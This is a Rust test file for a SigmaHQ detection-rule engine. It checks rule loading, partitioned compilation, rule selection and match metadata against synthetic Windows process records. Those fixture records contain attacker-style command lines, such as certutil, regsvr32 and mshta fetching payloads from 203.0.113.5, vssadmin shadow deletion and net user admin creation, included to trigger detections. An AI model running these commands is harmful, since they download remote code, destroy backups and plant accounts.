//! SigmaHQ's shipped rules: loaded from the embedded index without parsing, compiled by
//! partition as records need them, gated exactly as reading their files gates them; the
//! selection `rules update` and the vendoring tool share; and what a match says of its rule.

mod common;

use std::collections::BTreeSet;
use std::io::Write;
use std::path::{Path, PathBuf};

use vigil_telemetry::sigma::sigmahq::{self, SelectOptions};
use vigil_telemetry::{Reader, Record, RuleOrigin, RuleSources, SigmaEngine, SigmaHqRules};

fn vendored() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("sigmahq")
}

fn defaults() -> SigmaEngine {
    let (engine, report) = SigmaEngine::builtin_and_dirs(&[]).expect("loads");
    assert!(report.skipped.is_empty(), "{:?}", report.skipped);
    engine
}

/// Sysmon process creations and a Security 4688, written as flat JSON lines.
fn process_records() -> Vec<Record> {
    let lines = [
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            "PowerShell.EXE",
        ),
        (
            r"C:\Windows\System32\certutil.exe",
            "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe",
            r"C:\Windows\System32\cmd.exe",
            "CertUtil.exe",
        ),
        (
            r"C:\Windows\System32\rundll32.exe",
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
            r"C:\Windows\explorer.exe",
            "RUNDLL32.EXE",
        ),
        (
            r"C:\Windows\System32\regsvr32.exe",
            "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll",
            r"C:\Windows\System32\cmd.exe",
            "REGSVR32.EXE",
        ),
        (
            r"C:\Windows\System32\mshta.exe",
            "mshta http://203.0.113.5/a.hta",
            r"C:\Windows\explorer.exe",
            "MSHTA.EXE",
        ),
        (
            r"C:\Windows\System32\whoami.exe",
            "whoami /priv",
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
            "whoami.exe",
        ),
        (
            r"C:\Windows\System32\schtasks.exe",
            "schtasks /create /sc minute /mo 5 /tn upd /tr C:\\Users\\Public\\upd.exe",
            r"C:\Windows\System32\cmd.exe",
            "schtasks.exe",
        ),
        (
            r"C:\Users\bob\AppData\Local\Temp\x.exe",
            "x.exe",
            r"C:\Windows\System32\cmd.exe",
            "procdump",
        ),
        (
            r"C:\Windows\System32\vssadmin.exe",
            "vssadmin delete shadows /all /quiet",
            r"C:\Windows\System32\cmd.exe",
            "VSSADMIN.EXE",
        ),
        (
            r"C:\Windows\System32\net.exe",
            "net user admin P@ss /add",
            r"C:\Windows\System32\cmd.exe",
            "net.exe",
        ),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("process.ndjson");
    let mut f = std::fs::File::create(&path).expect("create");
    for (n, (image, cmd, parent, original)) in lines.iter().enumerate() {
        let line = serde_json::json!({
            "@timestamp": format!("2026-11-21T08:{n:02}:00.000Z"),
            "Hostname": "WS01.shop.local",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": 1,
            "Image": image,
            "CommandLine": cmd,
            "ParentImage": parent,
            "OriginalFileName": original,
            "User": "SHOP\\bob",
            "ProcessId": "900",
        });
        writeln!(f, "{line}").expect("write");
        let security = serde_json::json!({
            "@timestamp": format!("2026-11-21T09:{n:02}:00.000Z"),
            "Hostname": "WS01.shop.local",
            "Channel": "Security",
            "EventID": 4688,
            "NewProcessName": image,
            "CommandLine": cmd,
            "ParentProcessName": parent,
        });
        writeln!(f, "{security}").expect("write");
    }
    drop(f);
    Reader::open(&path)
        .expect("open")
        .collect::<Result<_, _>>()
        .expect("read")
}

/// `whoami /priv` started by WMI, as Sysmon records it.
fn whoami() -> Record {
    let record = process_records().swap_remove(10);
    assert_eq!(record.event.event_id, 1);
    assert!(record.raw["Image"]
        .as_str()
        .is_some_and(|i| i.ends_with("whoami.exe")));
    record
}

/// The SigmaHQ rules that fire on each record.
fn fired(engine: &SigmaEngine, records: &[Record]) -> Vec<BTreeSet<String>> {
    records
        .iter()
        .map(|r| {
            engine
                .evaluate(r)
                .into_iter()
                .filter(|m| m.origin != RuleOrigin::Vigil)
                .map(|m| m.rule_id)
                .collect()
        })
        .collect()
}

#[test]
fn the_shipped_rules_load_from_the_index_without_compiling_anything() {
    let engine = defaults();
    let counts = engine.counts();
    assert_eq!(counts.vigil, 21);
    assert_eq!(counts.sigmahq, sigmahq::embedded_count());
    assert!(counts.sigmahq > 2000, "{counts:?}");
    let compiled = engine.compiled();
    assert_eq!(compiled.partitions, 0, "{compiled:?}");
    assert!(compiled.partitions_total > 50, "{compiled:?}");
}

#[test]
fn a_record_compiles_only_the_partitions_it_reaches() {
    let engine = defaults();
    engine.evaluate(&whoami());
    let after_one = engine.compiled();
    // Sysmon 1's partitions: process creation, and the rules for any Sysmon event.
    assert!(after_one.partitions <= 3, "{after_one:?}");
    assert!(
        after_one.rules > 1000 && after_one.rules < 1500,
        "a process creation compiles the process-creation rules, not all: {after_one:?}"
    );
    // A service install compiles the System log's rules only.
    let fresh = defaults();
    let flat: Vec<Record> = Reader::open(common::data("flat.ndjson"))
        .expect("open")
        .flatten()
        .collect();
    fresh.evaluate(&flat[2]);
    assert!(fresh.compiled().rules < 200, "{:?}", fresh.compiled());
}

#[test]
fn the_embedded_index_gates_rules_as_reading_their_files_does() {
    let embedded = defaults();
    let (whole, report) = SigmaEngine::from_dirs(&[vendored()]).expect("loads");
    assert_eq!(
        report.loaded,
        sigmahq::embedded_count(),
        "{:?}",
        report.skipped
    );
    let records = process_records();
    let (a, b) = (fired(&embedded, &records), fired(&whole, &records));
    for (i, (x, y)) in a.iter().zip(&b).enumerate() {
        assert_eq!(x, y, "record {i}: {}", records[i].location);
    }
    let total: usize = a.iter().map(BTreeSet::len).sum();
    assert!(total >= 10, "the records raise something: {a:?}");

    let Some(fixtures) = common::shared_fixtures() else {
        println!("SKIPPED (shared fixtures): ../shared/fixtures is absent");
        return;
    };
    let mut files = common::files_with_ext(&fixtures.join("EVTX-ATTACK-SAMPLES"), ".evtx");
    files.extend(common::files_with_ext(
        &fixtures.join("sigma-regression"),
        ".evtx",
    ));
    let mut compared = 0;
    for file in files {
        let records: Vec<Record> = Reader::open(&file).expect("open").flatten().collect();
        let (a, b) = (fired(&embedded, &records), fired(&whole, &records));
        for (i, (x, y)) in a.iter().zip(&b).enumerate() {
            assert_eq!(x, y, "{}", records[i].location);
        }
        compared += records.len();
    }
    println!("{compared} fixture records fire the same rules either way");
}

#[test]
fn partitions_compile_once_when_workers_race() {
    let engine = defaults();
    let records = process_records();
    let expected = fired(&defaults(), &records);
    let results: Vec<Vec<BTreeSet<String>>> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..4)
            .map(|_| s.spawn(|| fired(&engine, &records)))
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("no panic"))
            .collect()
    });
    for r in results {
        assert_eq!(r, expected);
    }
}

#[test]
fn every_regression_test_of_a_shipped_rule_fires_with_the_default_rules() {
    let Some(fixtures) = common::shared_fixtures() else {
        println!("SKIPPED: ../shared/fixtures is absent");
        return;
    };
    let engine = defaults();
    let infos = common::files_with_ext(
        &fixtures.join("sigma-regression/regression_data"),
        "info.yml",
    );
    let (mut shipped, mut missed) = (0, Vec::new());
    for info in infos {
        let text = std::fs::read_to_string(&info).expect("info.yml");
        let Some(id) = common::info_rule_ids(&text).into_iter().next() else {
            continue;
        };
        if engine
            .rule(&id)
            .is_none_or(|r| r.origin != RuleOrigin::SigmaHq)
        {
            continue;
        }
        let dir = info.parent().expect("folder");
        let Some(evtx) = common::files_with_ext(dir, ".evtx").into_iter().next() else {
            continue;
        };
        shipped += 1;
        let hit = Reader::open(&evtx)
            .expect("open")
            .flatten()
            .any(|r| engine.evaluate(&r).iter().any(|m| m.rule_id == id));
        if !hit {
            missed.push(format!("{id} {}", dir.display()));
        }
    }
    println!("{shipped} regression tests concern a shipped rule");
    assert!(shipped > 150, "{shipped}");
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn a_user_rule_with_a_shipped_id_replaces_it() {
    let (engine, _) = SigmaEngine::builtin_and_dirs(&[]).expect("loads");
    let shipped = engine
        .rules()
        .find(|r| r.origin == RuleOrigin::SigmaHq)
        .expect("some shipped rule");
    let dir = tempfile::tempdir().expect("tempdir");
    let mine = dir.path().join("mine.yml");
    std::fs::write(
        &mine,
        format!(
            "title: My Own Take\nid: {}\nstatus: stable\nauthor: Me\nlogsource: {{product: windows, category: process_creation}}\ndetection: {{s: {{CommandLine|contains: 'whoami /priv'}}, condition: s}}\nlevel: high\n",
            shipped.rule_id
        ),
    )
    .expect("write");
    let (engine, report) = SigmaEngine::load(&RuleSources {
        sigmahq: SigmaHqRules::Embedded,
        user_dirs: vec![dir.path().to_path_buf()],
    })
    .expect("loads");
    let rule = engine.rule(&shipped.rule_id).expect("the id is loaded");
    assert_eq!(
        (rule.title.as_str(), rule.origin),
        ("My Own Take", RuleOrigin::User)
    );
    let replaced: Vec<_> = report
        .skipped
        .iter()
        .filter(|s| s.reason.starts_with("replaced by the user's copy"))
        .collect();
    assert_eq!(replaced.len(), 1, "{replaced:?}");
    assert!(replaced[0].reason.contains("mine.yml"), "{replaced:?}");
    assert_eq!(engine.counts().sigmahq, sigmahq::embedded_count() - 1);
}

fn rule(title: &str, extra: &str) -> String {
    format!(
        "title: {title}\nid: id-{title}\nstatus: test\nauthor: A. Author\n{extra}logsource: {{product: windows, category: process_creation}}\ndetection: {{s: {{CommandLine|contains: 'whoami'}}, condition: s}}\nlevel: critical\n"
    )
}

#[test]
fn a_match_says_status_hunting_grade_author_and_the_level_as_written() {
    let sources = vec![
        ("plain.yml".to_string(), rule("Plain", "")),
        (
            "tagged.yml".to_string(),
            rule(
                "Tagged",
                "tags: [attack.discovery, detection.threat-hunting]\n",
            ),
        ),
        (
            "x/rules-threat-hunting/windows/folder.yml".to_string(),
            rule("Folder", ""),
        ),
    ];
    let (engine, report) = SigmaEngine::from_sources(&sources);
    assert_eq!(report.loaded, 3, "{report:?}");
    let record = &whoami();
    let mut matches = engine.evaluate(record);
    matches.sort_by(|a, b| a.title.cmp(&b.title));
    let seen: Vec<(&str, &str, &str, bool, &str)> = matches
        .iter()
        .map(|m| {
            (
                m.title.as_str(),
                m.level.as_str(),
                m.status.as_str(),
                m.hunting,
                m.author.as_str(),
            )
        })
        .collect();
    assert_eq!(
        seen,
        [
            ("Folder", "critical", "test", true, "A. Author"),
            ("Plain", "critical", "test", false, "A. Author"),
            ("Tagged", "critical", "test", true, "A. Author"),
        ]
    );
}

#[test]
fn a_rule_that_does_not_compile_is_reported_when_its_partition_compiles() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("ok.yml"), rule("Ok", "")).expect("write");
    std::fs::write(
        dir.path().join("bad.yml"),
        "title: Bad\nid: bad\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {CommandLine|re: '(unclosed'}, condition: s}\n",
    )
    .expect("write");
    let (engine, report) = SigmaEngine::load(&RuleSources {
        sigmahq: SigmaHqRules::Off,
        user_dirs: vec![dir.path().to_path_buf()],
    })
    .expect("loads");
    // Known from the index: both rules, nothing refused yet.
    assert_eq!((report.loaded, report.skipped.len()), (23, 0), "{report:?}");
    engine.evaluate(&whoami());
    let report = engine.report();
    assert_eq!(report.loaded, 22, "{report:?}");
    assert_eq!(report.skipped.len(), 1);
    assert!(report.skipped[0].file.ends_with("bad.yml"));
    assert!(
        report.skipped[0].reason.starts_with("does not compile"),
        "{report:?}"
    );
}

#[test]
fn the_vendored_folder_is_the_selection_of_the_fixture_release() {
    let Some(fixtures) = common::shared_fixtures() else {
        println!("SKIPPED: ../shared/fixtures is absent");
        return;
    };
    let selection =
        sigmahq::select(&fixtures.join("sigma-rules"), SelectOptions::default()).expect("selects");
    let index = std::fs::read_to_string(vendored().join(sigmahq::INDEX_FILE)).expect("index");
    let lines: Vec<sigmahq::IndexLine> = index
        .lines()
        .map(|l| serde_json::from_str(l).expect("index line"))
        .collect();
    let selected: Vec<_> = selection.rules.iter().map(|r| r.line.clone()).collect();
    assert_eq!(selected.len(), lines.len());
    if let Some((a, b)) = selected.iter().zip(&lines).find(|(a, b)| a != b) {
        panic!("the index differs (run the vendor_sigmahq example again):\n{a:?}\n{b:?}");
    }
    assert!(selection.license.is_some());
}

/// A release folder with one rule of each kind the selection tells apart.
fn release(dir: &Path) {
    let w = |rel: &str, text: &str| {
        let path = dir.join(rel);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    };
    let rule = |title: &str, status: &str, logsource: &str, tags: &str| {
        format!("title: {title}\nid: id-{title}\nstatus: {status}\nauthor: Someone\ntags: [{tags}]\nlogsource: {logsource}\ndetection: {{s: {{CommandLine|contains: x}}, condition: s}}\nlevel: high\n")
    };
    let pc = "{product: windows, category: process_creation}";
    w("LICENSE", "DRL 1.1");
    w(
        "rules/windows/a/stable.yml",
        &rule("Stable", "stable", pc, ""),
    );
    w("rules/windows/a/test.yml", &rule("Test", "test", pc, ""));
    w(
        "rules/windows/a/experimental.yml",
        &rule("Experimental", "experimental", pc, ""),
    );
    w(
        "rules/windows/a/hunting.yml",
        &rule("Hunting", "test", pc, "detection.threat-hunting"),
    );
    w(
        "rules-emerging-threats/2024/linux.yml",
        &rule(
            "Linux",
            "test",
            "{product: linux, category: process_creation}",
            "",
        ),
    );
    w(
        "rules-emerging-threats/2024/et.yml",
        &rule("ET", "test", pc, "detection.emerging-threats"),
    );
    w(
        "rules-threat-hunting/windows/h.yml",
        &rule("H", "test", pc, "detection.threat-hunting"),
    );
    w("rules/linux/l.yml", &rule("L", "stable", pc, ""));
    w("README.md", "not a rule");
}

#[test]
fn the_selection_takes_stable_and_test_windows_rules_and_says_why_it_passes_over_the_rest() {
    let dir = tempfile::tempdir().expect("tempdir");
    release(dir.path());
    let selection = sigmahq::select(dir.path(), SelectOptions::default()).expect("selects");
    let taken: Vec<&str> = selection
        .rules
        .iter()
        .map(|r| r.line.path.as_str())
        .collect();
    assert_eq!(
        taken,
        [
            "rules-emerging-threats/2024/et.yml",
            "rules/windows/a/stable.yml",
            "rules/windows/a/test.yml"
        ]
    );
    let reasons = selection.skipped_by_reason();
    assert_eq!(
        reasons.into_iter().collect::<Vec<_>>(),
        [
            ("hunting rule".to_string(), 1),
            ("not for Windows".to_string(), 1),
            ("status experimental".to_string(), 1),
        ]
    );
    assert_eq!(selection.license.as_deref(), Some("DRL 1.1"));

    let out = tempfile::tempdir().expect("tempdir");
    let dest = out.path().join("set");
    sigmahq::write_selection(&selection, &dest).expect("writes");
    let (engine, report) = SigmaEngine::load(&RuleSources {
        sigmahq: SigmaHqRules::Folder(dest.clone()),
        user_dirs: Vec::new(),
    })
    .expect("loads the written set");
    assert_eq!(engine.counts().sigmahq, 3, "{report:?}");
    assert_eq!(
        std::fs::read_to_string(dest.join("rules/windows/a/test.yml")).expect("file"),
        std::fs::read_to_string(dir.path().join("rules/windows/a/test.yml")).expect("file"),
        "rules are written unmodified"
    );
    // A rule edited after the update is refused when its partition compiles, not run.
    std::fs::write(dest.join("rules/windows/a/test.yml"), "title: changed\n").expect("write");
    engine.compile_all();
    let report = engine.report();
    assert!(
        report
            .skipped
            .iter()
            .any(|s| s.file.ends_with("test.yml") && s.reason.contains("changed since")),
        "{report:?}"
    );
}

#[test]
fn a_file_that_is_not_yaml_fails_the_selection_naming_it_and_the_line() {
    let dir = tempfile::tempdir().expect("tempdir");
    release(dir.path());
    std::fs::write(
        dir.path().join("rules/windows/a/broken.yml"),
        "title: ok\nid: x\ndetection:\n  s: [unclosed\n",
    )
    .expect("write");
    let error = sigmahq::select(dir.path(), SelectOptions::default())
        .expect_err("refused")
        .to_string();
    assert!(error.contains("broken.yml"), "{error}");
    assert!(error.contains("line 5"), "{error}");
}
